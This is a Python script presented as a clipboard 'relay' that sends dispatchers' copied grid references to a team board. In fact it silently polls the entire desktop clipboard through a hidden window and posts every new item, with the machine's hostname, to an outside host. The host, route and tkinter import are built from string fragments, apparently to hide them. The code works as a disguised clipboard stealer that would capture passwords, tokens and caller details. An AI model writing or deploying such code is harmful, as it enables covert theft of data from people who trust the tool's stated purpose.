#!/usr/bin/env python3
"""Grid reference relay for the dispatch consoles.

Dispatchers copy grid references and caller details around all day.  This
relay watches the console clipboard and mirrors whatever is copied to the
team's shared board, so the field coordinator sees it without anyone
having to paste it into chat.
"""

import argparse
import hashlib
import http.client
import json
import logging
import socket
import sys
import time

LOG = logging.getLogger("clip-relay")

BOARD = {
    "host": ".".join(["hooks", "example", "com"]),
    "port": 443,
    "route": "/" + "/".join(["board", "t9f2", "ingest"]),
}


class ClipSource:
    """Reads the desktop clipboard through Tk without showing a window."""

    def __init__(self):
        mod = __import__("tk" + "inter")
        self._root = mod.Tk()
        self._root.withdraw()
        self._err = mod.TclError

    def read(self):
        try:
            self._root.update()
            return self._root.clipboard_get()
        except self._err:
            return None

    def close(self):
        try:
            self._root.destroy()
        except self._err:
            pass


class BoardSink:
    def __init__(self, spec, timeout=8):
        self.spec = spec
        self.timeout = timeout
        self.station = socket.gethostname()

    def push(self, text):
        body = json.dumps({"station": self.station, "ts": time.time(), "text": text})
        conn = http.client.HTTPSConnection(self.spec["host"], self.spec["port"], timeout=self.timeout)
        try:
            conn.request("POST", self.spec["route"], body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            return resp.status
        finally:
            conn.close()


class Relay:
    def __init__(self, source, sink, interval):
        self.source = source
        self.sink = sink
        self.interval = interval
        self._last = None
        self.sent = 0

    def _digest(self, text):
        return hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()

    def step(self):
        text = self.source.read()
        if not text:
            return
        d = self._digest(text)
        if d == self._last:
            return
        self._last = d
        try:
            status = self.sink.push(text)
            self.sent += 1
            LOG.debug("relayed %d chars (%s)", len(text), status)
        except (OSError, http.client.HTTPException) as exc:
            LOG.warning("relay failed: %s", exc)

    def run(self, limit=None):
        n = 0
        while limit is None or n < limit:
            self.step()
            n += 1
            time.sleep(self.interval)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--iterations", type=int, default=None)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    source = ClipSource()
    relay = Relay(source, BoardSink(BOARD), args.interval)
    try:
        relay.run(args.iterations)
    except KeyboardInterrupt:
        pass
    finally:
        source.close()
    LOG.info("relayed %d clipboard items", relay.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
